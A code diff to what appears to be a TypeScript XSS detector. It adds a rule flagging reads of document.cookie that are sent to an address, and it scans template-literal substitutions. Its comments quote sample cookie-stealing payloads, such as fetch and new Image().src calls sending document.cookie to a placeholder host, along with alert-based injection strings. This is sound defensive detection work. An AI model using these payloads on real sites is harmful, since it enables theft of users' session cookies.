@@ -9,7 +9,7 @@
  */
 import { lexJs, type Token } from "./lexer.ts";
 import { fold, matchBrackets } from "./constant.ts";
-import { ASSIGN_SINKS, DIALOG_CALLS, DOCUMENT_SINKS, EVAL_CALLS, GLOBAL_OBJECTS, INDIRECT_CALLS, SENSITIVE_MEMBERS, TIMER_CALLS, URL_SOURCES, WRITE_CALLS } from "./names.ts";
+import { ASSIGN_SINKS, DIALOG_CALLS, DOCUMENT_SINKS, EVAL_CALLS, GLOBAL_OBJECTS, INDIRECT_CALLS, SENDING_NAMES, SENSITIVE_MEMBERS, TIMER_CALLS, URL_SOURCES, WRITE_CALLS } from "./names.ts";
 import { jsfuckRuns } from "./jsfuck.ts";
 import { candidatePositions } from "./candidates.ts";
 
@@ -141,14 +141,37 @@ function judgeCall(c: Callee, tokens: Token[], match: Int32Array, at: number, al
   return null;
 }
 
-/** Member reads and writes that are not calls: `document.cookie`, `location.href = ...`, `x['\x61lert']`. */
-function judgeMember(tokens: Token[], match: Int32Array, i: number): Judged | null {
+/** Tokens read on each side of a cookie read for where it goes (a statement's worth). */
+const EXFIL_REACH = 12;
+
+/** A string that reads as (part of) an address: a cookie joined to one is sent there. */
+const isAddressLiteral = (t: Token) => (t.type === "string" || t.type === "template") && /[/?]/.test(t.value ?? "?");
+
+/**
+ * Does the read of `document.cookie` at tokens[first..last] go off the page: joined to an address,
+ * or in the same statement as a request, a navigation or a form (`fetch('//e/?'+document.cookie)`,
+ * `new Image().src='//e/?c='+document.cookie`)? A plain read (`var c = document.cookie`) does not.
+ */
+function sendsCookie(tokens: Token[], first: number, last: number): boolean {
+  for (let k = first - 1; k >= 0 && k >= first - EXFIL_REACH && !isPunct(tokens[k], ";"); k--) if (isAddressLiteral(tokens[k]!) || SENDING_NAMES.has(tokens[k]!.value ?? "")) return true;
+  for (let k = last + 1; k < tokens.length && k <= last + EXFIL_REACH && !isPunct(tokens[k], ";"); k++) if (isAddressLiteral(tokens[k]!)) return true;
+  return false;
+}
+
+/**
+ * Member reads and writes that are not calls: `document.cookie`, `location.href = ...`, `x['\x61lert']`.
+ * `inAddress`: the tokens are a template's substitution whose text before it reads as an address.
+ */
+function judgeMember(tokens: Token[], match: Int32Array, i: number, inAddress: boolean): Judged | null {
   const t = tokens[i]!;
   const next = tokens[i + 1];
   const assigned = isPunct(next, "=") || isPunct(next, "+=");
   if (t.type === "name") {
     const prev2 = isPunct(tokens[i - 1], ".") ? tokens[i - 2] : undefined;
-    if (prev2?.value === "document" && DOCUMENT_SINKS.has(t.value ?? "")) return { construct: "document-sink", kind: "sink", base: assigned ? 0.55 : 0.45 };
+    if (prev2?.value === "document" && DOCUMENT_SINKS.has(t.value ?? "")) {
+      if (t.value === "cookie" && !assigned && (inAddress || sendsCookie(tokens, i - 2, i))) return { construct: "cookie-exfiltration", kind: "exec", base: 0.7 };
+      return { construct: "document-sink", kind: "sink", base: assigned ? 0.55 : 0.45 };
+    }
     if (assigned && ASSIGN_SINKS.has(t.value ?? "") && (prev2 !== undefined || t.value === "location")) return { construct: "assign-sink", kind: "sink", base: 0.4 };
     // A dialog or eval passed as a value: `[1].map(alert)`, `onerror=alert;throw 1`.
     const name = t.value ?? "";
@@ -184,12 +207,37 @@ function noteAlias(tokens: Token[], i: number, aliases: Map<string, string>): vo
   if (isPunct(tokens[i - 1], "=") && target?.type === "name" && !isPunct(tokens[i - 3], ".")) aliases.set(target.value ?? "", tokens[i]!.value ?? "");
 }
 
-function scanTokens(text: string, start: number, end: number, context: JsContext, brokeOut: boolean, out: JsHit[], atValueStart = false): void {
+/**
+ * A template literal's substitutions (`${...}`) are code: `\`${alert(1)}\``. The lexer ends a template
+ * at its first unescaped backtick, so a substitution holds none and this recursion reads each
+ * character once more at most.
+ */
+function scanSubstitutions(text: string, template: Token, context: JsContext, brokeOut: boolean, out: JsHit[]): void {
+  const last = template.end - 1;
+  // Has the template's own text so far read as an address (a `/` or `?`)?
+  let address = false;
+  for (let k = template.start + 1; k < last; k++) {
+    const c = text.charCodeAt(k);
+    if (c === 92 /* \ */) k++;
+    else if (c === 47 || c === 63) address = true;
+    else if (c === 36 && text.charCodeAt(k + 1) === 123) {
+      let depth = 1;
+      let j = k + 2;
+      for (; j < last && depth > 0; j++) depth += text.charCodeAt(j) === 123 ? 1 : text.charCodeAt(j) === 125 ? -1 : 0;
+      const close = depth === 0 ? j - 1 : j;
+      scanTokens(text, k + 2, close, context, brokeOut, out, false, address);
+      k = close;
+    }
+  }
+}
+
+function scanTokens(text: string, start: number, end: number, context: JsContext, brokeOut: boolean, out: JsHit[], atValueStart = false, inAddress = false): void {
   const tokens = lexJs(text, start, end);
   const match = matchBrackets(tokens);
   const aliases = new Map<string, string>();
   for (let i = 0; i < tokens.length; i++) {
     const t = tokens[i]!;
+    if (t.type === "template" && t.value === null) scanSubstitutions(text, t, context, brokeOut, out);
     let judged: Judged | null = null;
     let first = i;
     let last = i;
@@ -201,7 +249,7 @@ function scanTokens(text: string, start: number, end: number, context: JsContext
         last = t.type === "template" ? i : match[i]! > i ? match[i]! : i;
       }
     } else {
-      judged = judgeMember(tokens, match, i);
+      judged = judgeMember(tokens, match, i, inAddress);
       if (judged && isPunct(t, "]")) first = Math.max(0, match[i]! - 1);
       else if (judged && judged.construct !== "function-reference") first = Math.max(0, i - 2);
       if (judged?.construct === "function-reference") noteAlias(tokens, i, aliases);
